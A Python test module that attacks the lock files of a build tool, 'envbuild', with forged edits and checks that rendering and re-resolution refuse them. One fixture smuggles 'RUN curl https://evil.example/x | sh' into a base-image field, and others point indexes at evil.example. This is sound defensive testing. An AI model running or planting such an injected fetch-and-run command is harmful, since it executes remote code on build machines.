"""The lock as untrusted input, attacked as the issue's review attacked it: a real lock (uv against
two loopback indexes), edited field by field with its unkeyed content digest recomputed.

What must hold: an edited lock never renders unnoticed (its seal, or with a key its HMAC, or what
the spec and matrix imply catches it), and `envbuild lock --check`, which re-resolves, passes only
a lock `envbuild lock` could have written.
"""

from __future__ import annotations

import re
import shutil
import subprocess
from pathlib import Path

import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

from envbuild._util import toml
from envbuild.cli.app import main
from envbuild.lockfile.model import Lock, LockedPackage, body_text, dumps
from envbuild.lockfile.read import lock_from_data, read_lock
from envbuild.lockfile.seal import content_digest
from tests.helpers.locking import forge, spec_text, write_key

BASE = "debian:bookworm-slim@sha256:" + "a" * 64
OTHER_HEX = "b" * 64


@pytest.fixture(scope="module")
def locked_project(tmp_path_factory: pytest.TempPathFactory, indexes) -> Path:
    """A project locked once, with a key: the lock every test here copies and attacks."""
    user, framework = indexes
    project = tmp_path_factory.mktemp("locked")
    (project / "envbuild.toml").write_text(spec_text(user.url, framework.url))
    key = write_key(project)
    spec = str(project / "envbuild.toml")
    assert main(["lock", "-f", spec, "--base-image", BASE, "--lock-key-file", str(key)]) == 0
    return project


@pytest.fixture
def project(locked_project: Path, tmp_path: Path) -> Path:
    copy = tmp_path / "project"
    shutil.copytree(locked_project, copy)
    return copy


def _lock(project: Path) -> Lock:
    return read_lock(str(project / "envbuild.lock")).lock


def _render(project: Path, *args: str) -> int:
    return main(["render", "-f", str(project / "envbuild.toml"), "-o", str(project / "out"), *args])


def _check(project: Path, *args: str) -> int:
    return main(["lock", "-f", str(project / "envbuild.toml"), "--check", *args])


def _edit_target(lock: Lock, **fields) -> Lock:
    (target,) = lock.targets
    return lock.replace(targets=(target.replace(**fields),))


def _edit_package(lock: Lock, name: str, **fields) -> Lock:
    (target,) = lock.targets
    packages = tuple(p.replace(**fields) if p.name == name else p for p in target.packages)
    return _edit_target(lock, packages=packages)


def test_the_real_lock_renders_and_checks_with_its_key(project: Path, capsys) -> None:
    key = str(project / "lock.key")
    assert 'content-hmac = "hmac-sha256:' in (project / "envbuild.lock").read_text()
    assert _render(project, "--lock-key-file", key) == 0
    assert _check(project, "--lock-key-file", key) == 0
    assert _check(project) == 0  # re-resolving without the key finds nothing either
    err = capsys.readouterr().err
    assert "carries a content-hmac, but no lock key is set" not in err  # check compares, render warns
    assert _render(project) == 0
    assert "carries a content-hmac, but no lock key is set (ENVBUILD_LOCK_KEY): it was not checked" in (
        capsys.readouterr().err
    )


def test_a_run_line_in_the_base_image_never_reaches_the_dockerfile(project: Path, capsys) -> None:
    evil = BASE + "\nRUN curl https://evil.example/x | sh\n#"
    (project / "envbuild.lock").write_text(forge(_edit_target(_lock(project), base_image=evil)))
    assert _render(project) == 1
    err = capsys.readouterr().err
    assert "base-image" in err and "a newline" in err and "Traceback" not in err
    assert not (project / "out").exists()


def test_an_unpinned_base_image_is_refused(project: Path, capsys) -> None:
    (project / "envbuild.lock").write_text(
        forge(_edit_target(_lock(project), base_image="debian:bookworm-slim"))
    )
    assert _render(project) == 1
    assert "is not pinned by digest" in capsys.readouterr().err


def test_a_hand_edit_is_refused_unless_allowed_loudly(project: Path, capsys) -> None:
    path = project / "envbuild.lock"
    text = path.read_text()
    digest = text.split('"sha256:', 4)[4][:64]  # a package hash (after the three header digests)
    path.write_text(text.replace(digest, OTHER_HEX, 1))  # the content digest left as it was
    assert _render(project) == 1
    err = capsys.readouterr().err
    assert "was edited by hand" in err and "--allow-edited-lock" in err
    assert not (project / "out").exists()
    assert _render(project, "--allow-edited-lock") == 0
    assert "warning: --allow-edited-lock:" in capsys.readouterr().err
    assert OTHER_HEX in (project / "out" / "default" / "requirements-framework.txt").read_text()


def test_a_renamed_target_is_not_built_unlocked(project: Path, capsys) -> None:
    (project / "envbuild.lock").write_text(forge(_edit_target(_lock(project), name="renamed")))
    assert _render(project) == 1
    err = capsys.readouterr().err
    assert "does not lock the spec's targets: no entry for target(s) default" in err
    assert not (project / "out").exists()


def test_a_single_target_table_is_a_clear_error(project: Path, capsys) -> None:
    path = project / "envbuild.lock"
    path.write_text(
        path.read_text().replace("[[target]]", "[target]").replace("[[target.package]]", "[[target.package]]")
    )
    assert _render(project) == 1
    err = capsys.readouterr().err
    assert "malformed" in err and "Traceback" not in err and "internal error" not in err


def test_without_the_key_a_resealed_lock_fails_with_the_key(project: Path, capsys) -> None:
    key = str(project / "lock.key")
    original = (project / "envbuild.lock").read_text()
    forged = _edit_package(_lock(project), "lib", version="1.0")
    (project / "envbuild.lock").write_text(forge(forged, keep_hmac_from=original))
    assert _render(project, "--lock-key-file", key) == 1
    assert "content-hmac the lock key does not reproduce" in capsys.readouterr().err
    (project / "envbuild.lock").write_text(forge(forged))  # the HMAC line dropped
    assert _render(project, "--lock-key-file", key) == 1
    assert "carries no content-hmac" in capsys.readouterr().err


# --- every kind of edit the review tried, digest recomputed: --check (no key) catches each one


def _framework_package(lock: Lock) -> LockedPackage:
    return next(p for p in lock.targets[0].packages if p.name == "torch")


EDITS = {
    "changed hash": lambda lock: _edit_package(lock, "lib", hashes=("sha256:" + OTHER_HEX,)),
    "extra hash": lambda lock: _edit_package(
        lock, "lib", hashes=tuple(sorted((*lock.targets[0].packages[-1].hashes, "sha256:" + "0" * 64)))
    ),
    "changed version": lambda lock: _edit_package(lock, "base", version="1.1"),
    "changed framework version": lambda lock: _edit_package(lock, "torch", version="2.12.0"),
    "added package": lambda lock: _edit_target(
        lock,
        packages=(
            *lock.targets[0].packages,
            LockedPackage(
                name="zzz-evil",
                version="1.0",
                layer="user",
                index=lock.targets[0].packages[-1].index,
                hashes=("sha256:" + OTHER_HEX,),
            ),
        ),
    ),
    "removed package": lambda lock: _edit_target(lock, packages=lock.targets[0].packages[:-1]),
    "swapped layer": lambda lock: _edit_target(
        lock,
        packages=tuple(
            sorted(
                (p.replace(layer="user") if p.name == "torch" else p for p in lock.targets[0].packages),
                key=lambda p: (p.layer != "framework", p.name),
            )
        ),
    ),
    "changed index": lambda lock: _edit_package(lock, "lib", index="https://evil.example/simple"),
    "changed stack": lambda lock: _edit_target(
        lock, stack=tuple((k, "9.9" if k == "cuda" else v) for k, v in lock.targets[0].stack)
    ),
    "changed python": lambda lock: _edit_target(lock, python="3.12"),
    "changed strategy": lambda lock: _edit_target(lock, strategy="conda"),
    "changed requirement": lambda lock: _edit_target(
        lock, requirements=(*lock.targets[0].requirements[:-1], "lib==1.0")
    ),
    "other base repository": lambda lock: _edit_target(
        lock, base_image="evil.example/debian:bookworm@sha256:" + OTHER_HEX
    ),
    "other base tag": lambda lock: _edit_target(lock, base_image="debian:0@sha256:" + "a" * 64),
    "renamed target": lambda lock: _edit_target(lock, name="renamed"),
    "removed target": lambda lock: lock.replace(targets=()),
    "other spec digest": lambda lock: lock.replace(spec_digest=OTHER_HEX),
}


NEEDS_RESOLUTION = {"changed hash", "extra hash", "changed version", "added package", "removed package"}


@pytest.mark.parametrize("edit", sorted(EDITS))
def test_check_catches_each_edit_with_the_digest_recomputed(project: Path, edit: str, capsys) -> None:
    forged = EDITS[edit](_lock(project))
    (project / "envbuild.lock").write_text(forge(forged))
    assert _check(project) == 1, edit
    err = capsys.readouterr().err
    assert "is out of date" in err or "malformed" in err
    # Offline, without a key, render catches all but the package-level edits: those are left to the
    # re-resolution above, to the key, and at build time to pip's --require-hashes.
    assert (_render(project) != 0) == (edit not in NEEDS_RESOLUTION), edit


# --- hypothesis: random edits of the real lock, digest recomputed


_TEXT = st.text(
    alphabet=st.sampled_from([*"abcz019.-_+=<>;:/@ $`\\\"'\n\r\t", "\u2028", "\u2029", "\x85", "\u202e"]),
    min_size=0,
    max_size=12,
)
_HEX = st.text(alphabet="0123456789abcdef", min_size=64, max_size=64)


@st.composite
def _mutations(draw: st.DrawFn, lock: Lock, *, base_digest: bool) -> Lock:
    (target,) = lock.targets
    packages = list(target.packages)
    kinds = [
        "target name",
        "strategy",
        "python",
        "base",
        "requirement",
        "stack value",
        "stack key",
        "package name",
        "package version",
        "package layer",
        "package index",
        "package hash",
        "add hash",
        "drop hash",
        "add package",
        "drop package",
        "duplicate package",
        "spec digest",
        "matrix digest",
    ] + (["base digest", "envbuild"] if base_digest else [])
    kind = draw(st.sampled_from(kinds))
    i = draw(st.integers(0, len(packages) - 1))
    p = packages[i]
    if kind == "target name":
        return _edit_target(lock, name=draw(st.sampled_from(["other", "default2", "DEFAULT"]) | _TEXT))
    if kind == "strategy":
        return _edit_target(lock, strategy=draw(st.sampled_from(["conda", "base-image"]) | _TEXT))
    if kind == "python":
        return _edit_target(lock, python=draw(st.sampled_from(["3.10", "3.12", "3.11 "]) | _TEXT))
    if kind == "base":
        return _edit_target(lock, base_image=draw(_TEXT.map(lambda t: f"debian:{t}@sha256:" + "a" * 64)))
    if kind == "base digest":
        return _edit_target(lock, base_image="debian:bookworm-slim@sha256:" + draw(_HEX))
    if kind == "envbuild":
        return lock.replace(envbuild=draw(st.sampled_from(["0.0.1", "99.0"])))
    if kind == "requirement":
        extra = draw(st.sampled_from(["lib==1.0", "base", "torch==2.12.0"]) | _TEXT)
        return _edit_target(lock, requirements=(*target.requirements, extra))
    if kind == "stack value":
        key = draw(st.sampled_from([k for k, _ in target.stack]))
        value = draw(st.sampled_from(["12.8", "13.0", "cu126", "580.65.06", "x"]) | _TEXT)
        return _edit_target(lock, stack=tuple((k, value if k == key else v) for k, v in target.stack))
    if kind == "stack key":
        return _edit_target(lock, stack=tuple(sorted((*target.stack, ("evil", "1")))))
    if kind == "package name":
        packages[i] = p.replace(name=draw(st.sampled_from(["evil", "torch", "lib"]) | _TEXT))
    elif kind == "package version":
        packages[i] = p.replace(version=draw(st.sampled_from(["1.0", "2.0", "0.1", "9.9"]) | _TEXT))
    elif kind == "package layer":
        packages[i] = p.replace(layer={"framework": "user", "user": "framework"}[p.layer])
    elif kind == "package index":
        packages[i] = p.replace(index=draw(st.sampled_from(["https://evil.example/simple"]) | _TEXT))
    elif kind == "package hash":
        packages[i] = p.replace(hashes=("sha256:" + draw(_HEX),))
    elif kind == "add hash":
        packages[i] = p.replace(hashes=tuple(sorted({*p.hashes, "sha256:" + draw(_HEX)})))
    elif kind == "drop hash":
        assume(len(p.hashes) > 1)
        packages[i] = p.replace(hashes=p.hashes[1:])
    elif kind == "add package":
        name = draw(st.sampled_from(["evil", "zzz", "aaa"]))
        layer = draw(st.sampled_from(["framework", "user"]))
        packages.append(
            LockedPackage(
                name=name, version="1.0", layer=layer, index=p.index, hashes=("sha256:" + draw(_HEX),)
            )
        )
    elif kind == "drop package":
        del packages[i]
    elif kind == "duplicate package":
        packages.insert(i, p)
    elif kind == "spec digest":
        return lock.replace(spec_digest=draw(_HEX))
    elif kind == "matrix digest":
        return lock.replace(matrix_digest=draw(_HEX))
    if draw(st.booleans()):  # written in the order envbuild writes, or not
        packages.sort(key=lambda q: (q.layer != "framework", q.name))
    return _edit_target(lock, packages=tuple(packages))


def _forged_differently(project: Path, forged: Lock, **kwargs) -> str:
    original = (project / "envbuild.lock").read_text()
    text = forge(forged, **({"keep_hmac_from": original} if kwargs.get("keep_hmac") else {}))
    assume(dumps(forged) != dumps(_lock(project)))  # an edit that changes nothing is no forgery
    return text


def test_hypothesis_no_resealed_edit_renders_with_the_key(locked_project: Path, tmp_path_factory) -> None:
    lock = _lock(locked_project)
    key = str(locked_project / "lock.key")

    @settings(max_examples=150, deadline=None, suppress_health_check=list(HealthCheck))
    @given(_mutations(lock, base_digest=True), st.booleans())
    def attack(forged: Lock, keep_hmac: bool) -> None:
        project = tmp_path_factory.mktemp("attack")
        shutil.copytree(locked_project, project, dirs_exist_ok=True)
        (project / "envbuild.lock").write_text(_forged_differently(project, forged, keep_hmac=keep_hmac))
        assert _render(project, "--lock-key-file", key) != 0
        assert not (project / "out").exists()

    attack()


def test_hypothesis_check_passes_only_what_lock_would_write(locked_project: Path, tmp_path_factory) -> None:
    """Without a key. The base digest and the envbuild version are left out: a re-resolution
    cannot judge them (a moved tag is not drift), and the HMAC test above covers them."""
    lock = _lock(locked_project)

    @settings(max_examples=40, deadline=None, suppress_health_check=list(HealthCheck))
    @given(_mutations(lock, base_digest=False))
    def attack(forged: Lock) -> None:
        project = tmp_path_factory.mktemp("attack")
        shutil.copytree(locked_project, project, dirs_exist_ok=True)
        (project / "envbuild.lock").write_text(_forged_differently(project, forged))
        assert _check(project) == 1

    attack()


def test_lock_into_a_read_only_directory_is_a_usage_error(indexes, mounted, capsys) -> None:
    user, framework = indexes
    project = mounted("size=1m")
    (project / "envbuild.toml").write_text(spec_text(user.url, framework.url))
    subprocess.run(["mount", "-o", "remount,ro", str(project)], check=True)
    assert main(["lock", "-f", str(project / "envbuild.toml"), "--base-image", BASE]) == 2
    err = capsys.readouterr().err
    assert f"cannot write {project / 'envbuild.lock'} (Read-only file system)" in err and "fix: " in err


def _reseal_text(text: str) -> str:
    """An edited lock's text with the content digest an attacker would recompute for it."""
    try:
        lock, _, _ = lock_from_data(toml.loads(text))
    except (ValueError, toml.TOMLDecodeError):
        return text  # no digest makes it valid: it stays as edited
    return re.sub(
        r'content-digest = "[^"]*"', f'content-digest = "{content_digest(body_text(lock))}"', text, count=1
    )


def test_hypothesis_no_table_or_line_edit_renders_with_the_key(
    locked_project: Path, tmp_path_factory
) -> None:
    """Edits of the file's text, not its model: lines and table headers dropped, doubled, moved."""
    original = (locked_project / "envbuild.lock").read_text()
    lines = original.splitlines(True)
    key = str(locked_project / "lock.key")
    model = _lock(locked_project)

    @settings(max_examples=80, deadline=None, suppress_health_check=list(HealthCheck))
    @given(
        st.sampled_from(["drop", "double", "move", "single-table"]),
        st.integers(0, len(lines) - 1),
        st.integers(0, len(lines) - 1),
    )
    def attack(kind: str, i: int, j: int) -> None:
        edited = list(lines)
        if kind == "drop":
            del edited[i]
        elif kind == "double":
            edited.insert(i, lines[i])
        elif kind == "move":
            edited.insert(j, edited.pop(i))
        else:
            edited = [
                re.sub(r"^\[\[(.*)\]\]$", r"[\1]", line) if k == i else line for k, line in enumerate(lines)
            ]
        text = _reseal_text("".join(edited))
        try:
            same = lock_from_data(toml.loads(text))[0] == model
        except (ValueError, toml.TOMLDecodeError):
            same = False
        assume(not same)  # a blank line or a comment moved: the same lock
        project = tmp_path_factory.mktemp("attack")
        shutil.copytree(locked_project, project, dirs_exist_ok=True)
        (project / "envbuild.lock").write_text(text)
        assert _render(project, "--lock-key-file", key) != 0
        assert not (project / "out").exists()

    attack()
